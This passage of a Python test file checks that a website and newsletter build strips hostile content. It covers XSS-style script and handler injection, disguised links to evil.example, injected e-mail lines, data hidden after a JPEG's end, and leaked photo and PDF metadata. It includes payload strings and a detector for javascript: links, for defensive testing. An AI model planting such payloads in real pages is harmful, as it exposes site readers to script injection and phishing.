    for folder, name in ((appended, "meeting.jpg"), (appended, "family.jpg"), (root / "docs" / "assets", "hall.jpg")):
        small = io.BytesIO()
        Image.new("RGB", (800, 600), (200, 180, 90)).save(small, "JPEG", quality=60)  # clean and light: fit to publish as is
        (folder / name).write_bytes(small.getvalue() + APPENDED[name])

    result = build(root)
    assert result.returncode == 0, result.stderr
    report = subprocess_check(root)
    out = root / "issue"
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setenv("HUB_NOW", NOW)
    try:
        assert main(["newsletter", "--root", str(root), "--since", "2026-11-15", "--until", "2026-11-22", "--out", str(out)]) == 0
    finally:
        monkeypatch.undo()
    issue = {path.name: path.read_text(encoding="utf-8") for path in out.iterdir() if path.suffix in (".html", ".txt")}
    return Built(root, root / "site", report, issue)


def subprocess_check(root: Path) -> list[dict[str, Any]]:
    import os
    import subprocess
    import sys
    hub = Path(sys.executable).with_name("hub")
    result = subprocess.run([str(hub), "check", "--format", "json"], cwd=root, capture_output=True, text=True,
                            env={**os.environ, "HUB_NOW": NOW}, timeout=300)
    assert result.returncode == 0, result.stdout[-3000:]  # warnings only: nothing here stops the build
    return json.loads(result.stdout)["problems"]


def test_pasted_styles_fonts_and_targets_are_cleaned_and_the_writer_told(hostile: Built) -> None:
    article = hostile.article("news/2026/pasted-from-word")
    text = article.text_content()
    assert "Червоний текст із Word" in text and "Текст у font" in text
    assert not article.xpath(".//@style | .//font | .//@target")
    assert article.xpath(".//a[@href='https://www.unicef.org/ukraine/']")
    source = hostile.root / "news/2026/pasted-from-word/index.uk.md"
    assert {p["line"] for p in hostile.findings("pasted-from-word/index.uk.md", "style-attribute")} == {line_in(source, "style=")}
    assert {p["line"] for p in hostile.findings("pasted-from-word/index.uk.md", "markup-removed")} == {
        line_in(source, "<font"), line_in(source, "target=")}, "each where it is written, not where its word is"


def test_a_private_comment_reaches_no_reader_and_the_writer_is_warned(hostile: Built) -> None:
    for url in ("news/2026/private-comment", "en/news/2026/private-comment"):
        assert "067 123" not in hostile.page(url) and "Садова" not in hostile.page(url)
    assert "067 123" not in hostile.feeds("uk") + hostile.feeds("en")
    assert "067 123" not in "".join(hostile.issue.values())
    (warning,) = hostile.findings("private-comment/index.uk.md", "comment")
    assert warning["severity"] == "warning" and warning["line"] == line_in(hostile.root / "news/2026/private-comment/index.uk.md", "<!--")


def test_a_copied_diagram_loads_no_program_from_another_website(hostile: Built) -> None:
    """Material would fetch mermaid.js from unpkg.com for a `<pre class="mermaid">`: the text stays, the class goes."""
    article = hostile.article("news/2026/copied-diagram")
    assert "Родина --> Громада" in article.text_content()
    assert article.xpath(".//pre") and not article.xpath(".//*[contains(@class, 'mermaid')]")
    (warning,) = hostile.findings("copied-diagram/index.uk.md", "markup-removed")
    assert warning["severity"] == "warning" and warning["line"] == line_in(hostile.root / "news/2026/copied-diagram/index.uk.md",
                                                                            'class="mermaid"')


def test_code_about_scripts_is_shown_as_text_not_refused(hostile: Built) -> None:
    article = hostile.article("news/2026/code-about-scripts")
    assert "<script>alert(1)</script>" in article.text_content()
    assert not article.xpath(".//script | .//@onerror")
    assert not [p for p in hostile.check if "code-about-scripts" in p["file"] and not p["code"].startswith("translation-")], \
        "nothing is refused or cleaned (the same text in both languages is a translation's warning, not this test's)"


def test_news_markup_survives_the_cleaning(hostile: Built) -> None:
    article = hostile.article("news/2026/rich-markup")
    assert article.xpath(".//h2[@id='підсумки-зустрічі']")
    assert article.xpath(".//div[contains(@class, 'admonition')]/p[@class='admonition-title']")
    assert article.xpath(".//a[@href='mailto:info@example.org'] and .//a[@href='tel:+380440000000']")
    assert article.xpath(".//a[@class='headerlink']")


def published_picture(site: Path, path: str) -> Image.Image:
    with Image.open(site / path) as image:
        image.load()
        return image


def test_a_phone_photo_in_a_text_is_published_upright_resized_and_without_its_gps(hostile: Built) -> None:
    folder = hostile.site / "news" / "2026" / "family-visit"
    names = {path.name for path in folder.iterdir()}
    assert "family.jpg" not in names and "cover.jpg" not in names, "no original is published"
    for name in ("family-page.jpg", "family-small.jpg", "cover-page.jpg", "cover-feed.jpg", "cover-social.jpg"):
        picture = published_picture(hostile.site, f"news/2026/family-visit/{name}")
        assert not picture.getexif(), f"{name} keeps EXIF"
        assert not {"exif", "xmp", "comment"} & set(picture.info), name
    page = published_picture(hostile.site, "news/2026/family-visit/family-page.jpg")
    assert page.size == (900, 1200), "upright (the phone stored it sideways) and no larger than the page needs"
    assert page.getpixel((450, 100))[0] > 150, "red on top once upright"
    for url, prefix in (("news/2026/family-visit", ""), ("en/news/2026/family-visit", "../../../../news/2026/family-visit/")):
        (img,) = hostile.article(url).xpath(".//img[contains(@src, 'family-page')]")
        assert img.get("src") == f"{prefix}family-page.jpg"
        assert (img.get("width"), img.get("height"), img.get("loading")) == ("900", "1200", "lazy")
        assert img.get("srcset") == f"{prefix}family-small.jpg 450w, {prefix}family-page.jpg 900w"


def test_the_feeds_carry_the_copy_and_never_the_original(hostile: Built) -> None:
    feeds = hostile.feeds("uk")
    assert "family-page.jpg" in feeds and "family.jpg" not in feeds and "srcset" not in feeds


def test_stray_and_unused_files_are_not_published_and_check_says_so(hostile: Built) -> None:
    published = {path.name for path in hostile.site.rglob("*")}
    assert "notes.txt" not in published and not {name for name in published if name.startswith("spare")}
    strays = {Path(p["file"]).name for p in hostile.findings("family-visit", "stray-file")}
    assert strays == {"notes.txt", "spare.jpg"}


def test_a_linked_pdf_is_published_without_its_authors_name_or_earlier_version(hostile: Built) -> None:
    """A post's report and a methodology's PDF, as Word exports them, a reviewer comments and a viewer saves an edit:
    readers get the pages, not the author's name, the file's name as a title, the reviewer's comment, the note taken
    off, or where the report's photo was taken."""
    assert b"Pixel 8" in (hostile.root / "news/2026/family-visit/report.pdf").read_bytes()
    for published in ("news/2026/family-visit/report.pdf", "methodology/guide.pdf"):
        data = (hostile.site / published).read_bytes()
        assert AUTHOR.encode() not in data and b"Ivanchenko" not in data and b"Pixel 8" not in data, published
        assert REVIEWER.encode() not in data and b"Sadova" not in data, published
        reader = PdfReader(io.BytesIO(data))
        assert reader.metadata is None and len(reader.pages) == 1, published
    assert b"Maria Ivanchenko" in (hostile.root / "news/2026/family-visit/report.pdf").read_bytes(), "the original is kept"


def test_docs_publishes_pages_pictures_pdfs_and_the_sites_own_code_only(hostile: Built) -> None:
    """A page of HTML or an SVG drawing in docs/ would run its scripts on the site's address when opened, a text file
    may be a private note: none is published, and `hub check` names each. A script in docs/assets/ is published, as
    the site's own are, but nothing can load it: no page holds a script element or a style of a writer's."""
    for name in ("landing.html", "methodology/scheme.svg", "contacts.txt"):
        assert not list(hostile.site.rglob(Path(name).name)), name
    assert (hostile.site / "methodology" / "guide.pdf").is_file() and (hostile.site / "assets" / "hub.css").is_file()
    strays = {p["file"] for p in hostile.check if p["code"] == "stray-file" and p["file"].startswith("docs/")}
    assert strays == {"docs/landing.html", "docs/methodology/scheme.svg", "docs/contacts.txt"}
    assert not [page for page in reader_pages(hostile.site) if "steal.js" in page.read_text(encoding="utf-8")]


def test_a_scheduled_posts_picture_is_no_false_alarm_and_not_published(hostile: Built) -> None:
    assert not [p for p in hostile.check if "scheduled-visit" in p["file"] and p["code"] == "image-missing"]
    assert not list(hostile.site.rglob("scheduled*"))


def test_control_characters_pasted_into_a_post_reach_readers_as_spaces(hostile: Built) -> None:
    """Word's line break (U+000B), a PDF's page break (U+000C), a terminal's escape (U+001B) in a title, a summary and
    a text: XML cannot carry them, and the build used to stop in the feeds with a traceback (in PyYAML's reader, for
    those typed into the front matter itself). They are spaces now, the feeds parse, and hub check says on which
    line of the text they are (an editor's line: no break at U+000B)."""
    control = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
    page = hostile.page("news/2026/pasted-controls")
    assert not control.search(page) and "<h1>Зустріч у громаді</h1>" in page
    english = hostile.page("en/news/2026/pasted-controls")
    assert not control.search(english) and "<h1>A meeting in the community</h1>" in english
    for lang, prefix in (("uk", ""), ("en", "en/")):
        assert not control.search(hostile.feeds(lang))
        for feed in ("feed.xml", "atom.xml"):
            parsed = feedparser.parse(hostile.site / f"{prefix}{feed}")
            assert not parsed.bozo, parsed.bozo_exception
    assert "Зустріч у громаді" in "".join(entry.title for entry in feedparser.parse(hostile.site / "feed.xml").entries)
    assert not control.search("".join(hostile.issue.values()))
    source = hostile.root / "news/2026/pasted-controls/index.uk.md"
    found = hostile.findings("pasted-controls/index.uk.md", "control-character")
    assert found and {p["line"] for p in found} == {line_in(source, "Абзац із Word")}


def test_a_summary_with_angle_brackets_is_text_in_every_feed(hostile: Built) -> None:
    rss = feedparser.parse((hostile.site / "feed.xml").read_bytes())
    (entry,) = [e for e in rss.entries if e.link.endswith("/odd-summary/")]
    assert entry.summary == "Менше &lt; 5 &amp; більше &gt; 3, а не &lt;тег", "RSS readers read the description as HTML"
    assert lxml.html.fromstring(f"<p>{entry.summary}</p>").text_content() == "Менше < 5 & більше > 3, а не <тег"
    feed = json.loads((hostile.site / "feed.json").read_text(encoding="utf-8"))
    (item,) = [i for i in feed["items"] if i["url"].endswith("/odd-summary/")]
    assert item["summary"] == "Менше < 5 & більше > 3, а не <тег"
    html = hostile.issue["uk.html"]
    assert "Менше &lt; 5 &amp; більше &gt; 3, а не &lt;тег" in html and "<тег" not in html


def test_pictures_of_hand_written_pages_and_logos_lose_their_metadata(hostile: Built) -> None:
    team = published_picture(hostile.site, "assets/team.jpg")
    assert not team.getexif() and team.size == (600, 800)
    logo = published_picture(hostile.site, "partners/unicef/unicef-logo.jpg")
    assert not logo.getexif() and logo.size == (576, 192)
    assert not (hostile.site / "partners/unicef/unicef.jpg").exists()
    (img,) = hostile.article("partners/unicef").xpath(".//img[@class='hub-logo']")
    assert (img.get("width"), img.get("height")) == ("576", "192")


def test_what_a_picture_file_holds_past_its_picture_reaches_no_reader(hostile: Built) -> None:
    """A clean, light JPEG was published as it is, once what came before its first scan was seen to be clean: what
    followed its end went with it. Every JPEG is now encoded again, and a picture of docs/ published as it is only
    once its whole file is seen to hold nothing else (hub.outputs.bare)."""
    published = [path for path in hostile.site.rglob("*") if path.is_file()]
    assert [path for path in published if SECRET_APPENDED.encode() in path.read_bytes()] == []
    for name in ("meeting", "family"):
        assert published_picture(hostile.site, f"news/2026/appended-data/{name}-page.jpg").size == (800, 600)
    assert published_picture(hostile.site, "assets/hall.jpg").size == (800, 600)


def test_a_partners_description_is_shared_as_the_text_readers_see(hostile: Built) -> None:
    """Its Markdown is the page's text; the page's description and share preview showed it as written, brackets and all."""
    head = lxml.html.fromstring(hostile.page("partners/unicef"))
    for selector in ("//meta[@name='description']", "//meta[@property='og:description']"):
        (meta,) = head.xpath(selector)
        assert meta.get("content").startswith("Докладніше — у звіті. Разом із консорціумом"), meta.get("content")


def test_a_cover_named_with_a_space_and_cyrillic_letters_has_valid_addresses_in_feeds_and_previews(hostile: Built) -> None:
    """Feeds, e-mail and share previews take an address as it is: a space or a Cyrillic letter there made it invalid."""
    encoded = "news/2026/spaced-cover/%D0%BE%D0%B1%D0%BA%D0%BB%D0%B0%D0%B4%D0%B8%D0%BD%D0%BA%D0%B0%20%D1%82%D1%80%D0%B5%D0%BD%D1%96%D0%BD%D0%B3%D1%83"
    (entry,) = [e for e in feedparser.parse(hostile.feeds_file("feed.xml")).entries if "spaced-cover" in e.link]
    (enclosure,) = entry.enclosures
    assert enclosure.href.endswith(f"/{encoded}-feed.jpg"), enclosure.href
    (image,) = lxml.html.fromstring(hostile.page("news/2026/spaced-cover")).xpath("//meta[@property='og:image']/@content")
    assert image.endswith(f"/{encoded}-social.jpg"), image
    assert f"/{encoded}-feed.jpg" in hostile.issue["uk.html"]


def test_a_summary_written_on_several_lines_is_one_line_in_the_text_e_mail(hostile: Built) -> None:
    """YAML's `|` kept its line breaks: in the plain-text issue, a line of its own passed for the issue's (a signature's
    `-- `, an «unsubscribe» to another site, an mbox `From ` line)."""
    for name in ("uk.txt", "en.txt"):
        lines = hostile.issue[name].splitlines()
        assert lines.count("-- ") == 1, "the issue's own signature separator only"
        assert not [line for line in lines if line.startswith(("Відписатися: https://evil", "From evil"))], lines
    assert "Підсумок зустрічі. -- Відписатися: https://evil.example/unsub" in hostile.issue["uk.txt"].splitlines()
    assert "The meeting. From evil@example.com Mon Nov 23 2026" in hostile.issue["en.txt"].splitlines()


def test_a_link_showing_one_address_and_opening_another_is_pointed_out(hostile: Built) -> None:
    """`[https://www.unicef.org/ukraine/](https://evil.example/report)` reads as UNICEF's page: the writer is warned."""
    source = hostile.root / "news/2026/disguised-link/index.uk.md"
    (found,) = hostile.findings("disguised-link/index.uk.md", "link-disguised")
    assert found["line"] == line_in(source, "evil.example") and "evil.example" in found["message"]


def test_a_texts_element_never_takes_the_id_the_themes_script_reads(hostile: Built) -> None:
    """Material reads its settings from the first `#__config` of the page: a paragraph `{: #__config }` before its
    script made it fetch from another site. The id is not published, and the writer is told at its line."""
    page = lxml.html.fromstring(hostile.page("news/2026/theme-id"))
    assert [element.tag for element in page.xpath("//*[@id='__config']")] == ["script"]
    source = hostile.root / "news/2026/theme-id/index.uk.md"
    assert [p["line"] for p in hostile.findings("theme-id/index.uk.md", "markup-removed")] == [line_in(source, "#__config")]


def test_a_picture_written_as_html_shows_its_copy_in_both_languages(hostile: Built) -> None:
    """`<img src="stage.jpg">` pointed at the original, which is never published: a broken picture."""
    for url in ("news/2026/html-picture/", "en/news/2026/html-picture/"):
        (img,) = hostile.article(url).xpath(".//img[@alt='Сцена форуму']")
        target = hostile.site / resolve(url, img.get("src"))
        assert target.name == "stage-page.jpg" and target.is_file() and not published_picture(hostile.site, resolve(url, img.get("src"))).getexif()
    assert not (hostile.site / "news/2026/html-picture/stage.jpg").exists()


def test_the_policy_allows_only_the_themes_scripts(hostile: Built, site: Path) -> None:
    """Content never adds to `script-src`: the hostile build allows no script the shipped one does not."""
    def script_src(folder: Path) -> set[str]:
        return set(re.search(r"script-src ([^;]*)", (folder / "_headers").read_text(encoding="utf-8"))[1].split())

    assert script_src(hostile.site) <= script_src(site)


def assert_harmless(root: lxml.html.HtmlElement, where: str) -> None:
    """No handler, no `javascript:` link, no script of content's, no frame or form but the theme's own."""
    assert not root.xpath("//@*[starts-with(name(), 'on')]"), where
    for url in root.xpath("//@href | //@src | //@action | //@formaction"):
        assert not re.sub(r"[\x00-\x20]", "", url).lower().startswith(("javascript:", "vbscript:", "data:text")), where
    assert not [script for script in root.iter("script") if "alert" in (script.text or "")], where
    assert not root.xpath("//iframe | //object | //embed | //svg[@onload]"), where


def test_no_page_feed_or_e_mail_holds_code_from_content(hostile: Built) -> None:
    for path in reader_pages(hostile.site):
        assert_harmless(lxml.html.fromstring(path.read_bytes()), str(path))
    for lang in ("", "en/"):
        for name in ("feed.xml", "atom.xml"):
            for entry in feedparser.parse((hostile.site / lang / name).read_bytes()).entries:
                for part in (*entry.get("content", []), {"value": entry.get("summary", "")}):
                    if part["value"].strip():
                        assert_harmless(lxml.html.fragment_fromstring(part["value"], create_parent="div"), entry.link)
        for item in json.loads((hostile.site / lang / "feed.json").read_text(encoding="utf-8"))["items"]:
            assert_harmless(lxml.html.fragment_fromstring(item["content_html"] or "<p></p>", create_parent="div"), item["url"])
    assert_harmless(lxml.html.fromstring(hostile.issue["uk.html"]), "the e-mail issue")
    assert_harmless(lxml.html.fromstring(hostile.issue["en.html"]), "the e-mail issue")
